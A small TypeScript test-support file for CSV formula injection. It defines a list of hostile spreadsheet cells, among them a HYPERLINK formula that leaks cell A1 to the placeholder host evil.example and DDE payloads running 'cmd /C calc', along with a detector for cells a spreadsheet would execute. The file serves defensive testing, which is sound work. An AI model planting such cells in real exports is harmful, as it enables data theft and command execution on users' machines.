// Test support for CSV formula injection: hostile cells, and what a spreadsheet would run (read with the product's line reader).
import { parseCsvLine } from '../services/csv';

export const parseLine = parseCsvLine;
export const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
/** What a spreadsheet would run: a cell (after CSV unquoting) that starts with a formula character. */
export const runnable = (line: string): boolean => parseLine(line).some((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c));
